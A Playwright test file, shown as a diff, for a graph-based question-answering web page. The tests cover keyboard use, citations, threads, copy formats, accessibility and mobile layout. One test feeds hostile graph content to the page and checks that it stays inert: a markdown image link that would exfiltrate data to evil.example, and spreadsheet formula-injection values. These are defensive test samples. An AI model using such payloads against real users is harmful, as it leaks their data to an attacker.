@@ -1,0 +1,325 @@
+"""The page in a real browser: a conversation by keyboard, choices, threads over a restart, and nothing out of a graph that runs."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+from served import KEY, Serve
+
+QUESTION = "Who made Blade Runner?"
+SIZES = [(1280, 860), (390, 844)]
+
+
+@contextmanager
+def opened(browser: Any, url: str, size: tuple[int, int] = (1280, 860), **options: Any) -> Iterator[Any]:
+    """A page that must neither fail, nor break its own security policy, nor ask another server."""
+    context = browser.new_context(viewport={"width": size[0], "height": size[1]}, **options)
+    context.set_default_timeout(30_000)
+    page = context.new_page()
+    problems: list[str] = []
+    origin = "/".join(url.split("/")[:3])
+    page.on("pageerror", lambda error: problems.append(str(error)))
+    page.on("console", lambda m: problems.append(m.text) if m.type == "error" and not _refusal(m.text) else None)
+    page.on("request", lambda r: problems.append(r.url) if not r.url.startswith((origin, "data:", "blob:")) else None)
+    page.goto(url)
+    try:
+        yield page
+        assert problems == []
+    finally:
+        context.close()
+
+
+def _refusal(text: str) -> bool:
+    """Chromium's line for an answer such as 400, which the page shows in words."""
+    return text.startswith("Failed to load resource")
+
+
+def ask(page: Any, text: str, answers: int) -> None:
+    page.get_by_label("Your question", exact=True).fill(text)
+    page.keyboard.press("Enter")
+    page.locator(".end .cost").nth(answers - 1).wait_for()
+
+
+def serious(page: Any) -> list[str]:
+    """What axe-core finds that is serious or worse."""
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
+    found = axe.Axe().run(page).response["violations"]
+    return [f"{v['id']}: {[n['target'] for n in v['nodes']]}" for v in found if v["impact"] in ("serious", "critical")]
+
+
+def test_a_conversation_by_keyboard(browser: Any, serve: Serve) -> None:
+    served = serve(max_turns=9)
+    with opened(browser, served.url) as page:
+        page.locator(".suggest button").first.wait_for()
+        page.keyboard.type(QUESTION)  # the question has the focus
+        page.keyboard.press("Enter")
+        page.locator(".end .cost").wait_for()
+        assert "Ridley Scott" in page.locator(".text").inner_text()
+        assert page.locator(".g-edge.proof").count() == 3 and page.locator(".g-edge.inferred").count() == 1
+        # from the question back to [1], which lights its edge up
+        for _ in range(12):
+            page.keyboard.press("Shift+Tab")
+            if page.evaluate("document.activeElement.className.startsWith('cite')"):
+                break
+        focused = page.evaluate("document.activeElement.dataset.light")
+        assert page.locator(f'.g-edge.lit[data-light="{focused}"]').count() == 1
+        # a second question, that is a choice, answered by keyboard
+        page.keyboard.press("/")
+        page.keyboard.type("Which Alien is the best?")
+        page.keyboard.press("Enter")
+        page.get_by_role("button", name="Aliens film, 1986").wait_for()
+        page.wait_for_timeout(200)
+        assert page.evaluate("document.activeElement.textContent").startswith("Alien")
+        page.keyboard.press("Tab")
+        page.keyboard.press("Enter")
+        page.locator(".end .cost").nth(1).wait_for()
+        assert "Aliens" in page.locator(".turn").nth(1).inner_text()
+
+
+def test_citation_edge_and_row_light_up_together(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        ask(page, QUESTION, 1)
+        page.locator(".cite").nth(1).hover()
+        assert page.locator(".lit").count() == 2
+        page.locator(".g-edge.proof").first.dispatch_event("pointerover")
+        assert page.locator(".cite.lit").count() >= 1
+        page.locator(".g-edge.proof").first.dispatch_event("pointerout")
+        page.get_by_role("tab", name="Table").click()
+        page.locator(".e-table tbody tr").nth(1).hover()
+        assert page.locator(".cite.lit").inner_text() == "2"
+        assert page.locator(".e-table tbody tr").count() == 11
+        assert "inferred" in page.locator(".e-table").inner_text()
+
+
+def test_the_graph_can_be_walked_filtered_searched_and_expanded(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        ask(page, QUESTION, 1)
+        nodes = page.locator(".g-node").count()
+        page.locator(".canvas svg g[tabindex='0']").focus()
+        page.keyboard.press("End")
+        page.keyboard.press("Enter")
+        page.locator(".node-card h3").wait_for()
+        page.get_by_role("button", name="Hide").click()
+        assert page.locator(".g-node").count() == nodes - 1
+        page.get_by_role("button", name="Show 1 hidden node").click()
+        page.get_by_role("button", name="starring 4").click()
+        assert page.locator(".g-node").count() == nodes - 4
+        page.get_by_role("button", name="starring 4").click()
+        page.get_by_label("Find in this graph").fill("ridley")
+        assert page.locator(".g-node.found").count() == 1 and page.locator(".g-node.dim").count() == nodes - 1
+        page.get_by_label("Find in this graph").fill("")
+        page.locator(".g-node", has_text="Ridley Scott").click()
+        page.locator(".node-card button:enabled", has_text="Expand").click()
+        assert page.locator(".g-node").count() > nodes
+
+
+def test_predictions_are_told_apart(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        ask(page, "predict what Ridley Scott does", 1)
+        assert page.locator(".g-edge.predicted").count() == 3
+        assert "0.83" in page.locator(".g-edge.predicted text").first.text_content()
+        assert "not facts" in page.locator(".turn").inner_text()
+        assert (
+            page.locator(".g-edge.predicted path.line").first.evaluate("e => getComputedStyle(e).strokeDasharray")
+            != "none"
+        )
+        assert "predicted, not a fact" in page.locator(".cite").first.get_attribute("aria-label")
+
+
+def test_other_readings_steps_and_cost(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        ask(page, QUESTION, 1)
+        assert "Read as What the graph says of Blade Runner" in page.locator(".turn").inner_text()
+        page.get_by_role("tab", name="Steps").click()
+        assert (
+            "Finding the names" in page.locator("#evidence-panel").inner_text()
+            and '"?x"' in page.locator("pre").inner_text()
+        )
+        page.get_by_role("tab", name="Cost").click()
+        assert (
+            "$0.0004" in page.locator("#evidence-panel").inner_text()
+            and "321" in page.locator("#evidence-panel").inner_text()
+        )
+        page.get_by_role("button", name="Films with Blade Runner in their title").click()
+        page.locator(".text", has_text="Jane Campion").wait_for()
+        assert page.locator(".turn").count() == 1
+
+
+def test_copy_as(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        ask(page, QUESTION, 1)
+        page.get_by_role("tab", name="Table").click()
+        copied = {}
+        for name in ("TSV", "Turtle", "JSON"):
+            page.get_by_role("button", name=name, exact=True).click()
+            page.locator("#said", has_text=f"{name} copied").wait_for(state="attached")
+            copied[name] = page.evaluate("navigator.clipboard.readText()")
+    assert copied["TSV"].splitlines()[2] == "2\tBlade Runner\tdirected by\tRidley Scott\tasserted\t"
+    assert len(json.loads(copied["JSON"])) == 11
+    import rdflib
+
+    assert len(rdflib.Graph().parse(data=copied["Turtle"], format="turtle")) >= 11
+
+
+def test_threads_over_a_restart(browser: Any, serve: Serve) -> None:
+    state: dict[str, Any] = {}
+    first = serve(state=state)
+    with opened(browser, first.url) as page:
+        ask(page, QUESTION, 1)
+        page.locator("#threads .open", has_text=QUESTION).wait_for()
+        fragment = page.evaluate("location.hash")
+        assert fragment.startswith("#t=")
+    second = serve(state=state)  # another process would read the same file
+    with opened(browser, second.url + "/" + fragment) as page:
+        page.locator(".end .cost").wait_for()
+        assert "Ridley Scott [" not in page.locator(".text").inner_text() and page.locator(".cite").count() == 3
+        assert page.locator(".g-edge.proof").count() == 3
+        page.get_by_label(f"More for {QUESTION}").click()
+        page.get_by_role("button", name="Rename").click()
+        page.get_by_label("New title").fill("The film")
+        page.keyboard.press("Enter")
+        page.locator("#threads .open", has_text="The film").wait_for()
+        page.get_by_role("button", name="New question").click()
+        page.locator(".suggest button").first.wait_for()
+        page.locator("#threads .open", has_text="The film").click()
+        page.locator(".end .cost").wait_for()
+        page.get_by_label("More for The film").click()
+        page.get_by_role("button", name="Delete").click()
+        page.locator(".acts").get_by_role("button", name="Delete").click()
+        page.locator("#threads .empty").wait_for()
+    assert second.assistant.rows == {}
+
+
+def test_edit_and_ask_again_branches_off(browser: Any, serve: Serve) -> None:
+    served = serve(max_turns=9)
+    with opened(browser, served.url) as page:
+        ask(page, QUESTION, 1)
+        ask(page, "Who made Gladiator?", 2)
+        page.get_by_label("Edit and ask again").nth(1).click()
+        page.get_by_label("Your question, edited").fill("Who made The Piano?")
+        page.keyboard.press("Enter")
+        page.locator(".text", has_text="The Piano").wait_for()
+        page.locator(".end .cost").nth(1).wait_for()
+        assert page.locator(".turn").count() == 2 and "Gladiator" not in page.locator("#log").inner_text()
+    assert len(served.assistant.rows) == 2  # what was said before is still there
+
+
+def test_stop(browser: Any, serve: Serve) -> None:
+    served = serve(max_turns=9)
+    with opened(browser, served.url) as page:
+        ask(page, QUESTION, 1)
+        page.get_by_label("Your question", exact=True).fill("slow")
+        page.keyboard.press("Enter")
+        page.get_by_role("button", name="Stop").wait_for()
+        page.keyboard.press("Escape")
+        page.get_by_text("Stopped.").wait_for()
+        page.get_by_role("button", name="Send").wait_for()
+    assert served.assistant.stopped_models == 1
+
+
+def test_a_failure_is_told_and_can_be_asked_again(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url) as page:
+        page.get_by_label("Your question", exact=True).fill("fail")
+        page.keyboard.press("Enter")
+        page.get_by_role("alert").wait_for()
+        assert "OPENAI_BASE_URL" in page.get_by_role("alert").inner_text()
+        assert page.get_by_role("button", name="Ask again", exact=True).count() == 1
+
+
+def test_a_dropped_file(browser: Any, serve: Serve, films: dict[str, Any]) -> None:
+    with opened(browser, serve(graphs=dict(films)).url) as page:
+        page.locator(".suggest button").first.wait_for()
+        transfer = page.evaluate_handle(
+            "() => { const t = new DataTransfer(); t.items.add(new File(['Rex\\tlives with\\tAnna\\n'], 'pets.tsv')); return t; }"
+        )
+        page.dispatch_event("#log", "dragenter", {"dataTransfer": transfer})
+        assert page.locator("#drop").is_visible()
+        page.dispatch_event("#log", "drop", {"dataTransfer": transfer})
+        page.get_by_role("heading", name="Ask pets").wait_for()
+        assert page.get_by_label("Graph", exact=True).input_value() == "pets"
+        ask(page, "Who lives with Rex?", 1)
+        page.locator("#file").set_input_files({"name": "x.tsv", "mimeType": "text/plain", "buffer": b"broken"})
+        page.get_by_role("alert").wait_for()
+        assert "x.tsv" in page.get_by_role("alert").inner_text()
+
+
+def test_the_key_is_asked_for_and_kept_for_the_tab(browser: Any, serve: Serve) -> None:
+    served = serve(key=KEY)
+    with opened(browser, served.url) as page:
+        page.get_by_label("Key", exact=True).fill("wrong")
+        page.keyboard.press("Enter")
+        page.wait_for_timeout(300)
+        page.get_by_label("Key", exact=True).fill(KEY)
+        page.keyboard.press("Enter")
+        page.locator(".suggest button").first.wait_for()
+        page.reload()
+        page.locator(".suggest button").first.wait_for()
+        assert KEY not in page.content() and KEY not in page.url
+
+
+def test_what_a_graph_says_is_inert(browser: Any, serve: Serve, hostile_graph: dict[str, Any]) -> None:
+    served = serve(graphs=hostile_graph)
+    with opened(browser, served.url) as page:
+        page.locator(".suggest button").first.wait_for()
+        ask(page, "What of Alpha? <b>bold</b>", 1)
+        for tab in ("Graph", "Table", "Steps", "Graph"):
+            page.get_by_role("tab", name=tab).click()
+        page.locator(".g-node").last.click()
+        page.wait_for_timeout(200)
+        assert page.title().endswith("triplewise") and "owned" not in page.title()
+        outside = "document.querySelectorAll('#log img, #evidence img, #log script, #evidence script, #log a, #evidence a, #log b').length"
+        assert page.evaluate(outside) == 0
+        assert "![x](https://evil.example/?q=secret)" in page.locator("#log").inner_text()
+        tsv = page.evaluate(
+            "import('/page/formats.js').then((m) => m.toTsv([{n: 1, labels: ['=1+1', '+x', '@y'], source: 'asserted'}]))"
+        )
+        assert tsv.splitlines()[1].split("\t")[1:4] == ["'=1+1", "'+x", "'@y"]
+
+
+def test_the_evidence_page_of_a_link(browser: Any, serve: Serve) -> None:
+    served = serve(key=KEY)
+    with served.client(headers={"Authorization": f"Bearer {KEY}"}) as client:
+        said = client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": QUESTION}]}).json()
+    with opened(browser, said["triplewise"]["evidence_url"] + "#2", (390, 844)) as page:
+        page.locator(".g-edge.lit").wait_for()
+        assert "directed by" in page.locator(".g-edge.lit").text_content()
+        assert serious(page) == []
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("size", SIZES)
+def test_axe_finds_nothing_serious(browser: Any, serve: Serve, size: tuple[int, int], scheme: str) -> None:
+    with opened(browser, serve().url, size, color_scheme=scheme, reduced_motion="reduce") as page:
+        page.locator(".suggest button").first.wait_for()
+        assert serious(page) == []
+        ask(page, QUESTION + " warn", 1)
+        ask(page, "predict what Ridley Scott does", 2)
+        page.get_by_label("Your question", exact=True).fill("Which Alien is the best?")
+        page.keyboard.press("Enter")
+        page.locator(".choices button").first.wait_for()
+        if size[0] < 1000:
+            assert serious(page) == []
+            page.get_by_role("button", name="Evidence", exact=True).click()
+        for tab in ("Graph", "Table", "Steps", "Cost"):
+            page.get_by_role("tab", name=tab).click()
+            assert serious(page) == [], tab
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_a_phone(browser: Any, serve: Serve) -> None:
+    with opened(browser, serve().url, (390, 844), has_touch=True) as page:
+        ask(page, QUESTION, 1)
+        assert page.evaluate("document.documentElement.scrollWidth") == 390
+        page.locator(".cite").nth(1).tap()
+        page.get_by_label("Close the evidence").wait_for()
+        page.keyboard.press("Escape")
+        assert not page.locator("#evidence").is_visible()
+        page.locator("#menu").tap()
+        page.locator("#threads .open").first.wait_for()
+        page.keyboard.press("Escape")
+        page.locator("#side").wait_for(state="hidden")
